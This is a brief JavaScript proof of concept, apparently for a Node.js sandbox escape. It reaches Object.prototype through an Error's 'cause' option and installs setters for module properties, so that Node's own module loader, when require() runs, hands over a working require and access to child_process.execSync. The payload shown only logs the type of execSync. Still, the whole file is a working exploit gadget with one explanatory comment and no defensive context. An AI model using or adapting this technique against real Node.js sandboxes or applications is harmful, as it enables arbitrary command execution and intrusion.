// An error's cause carries Object.prototype, which gets setters that node's own modules meet.
const { cause } = new Error('', { cause: Object.prototype });
for (const k of ['loaded', 'filename', 'parent', 'id', 'paths', 'children', 'path']) Object.defineProperty(cause, k, { configurable: true, set(v) { if (typeof this.require === 'function' && this.children) console.log('x', typeof this.require('child_process').execSync); Object.defineProperty(this, k, { value: v, writable: true }); }, get() { return undefined; } });
require('./package.json');
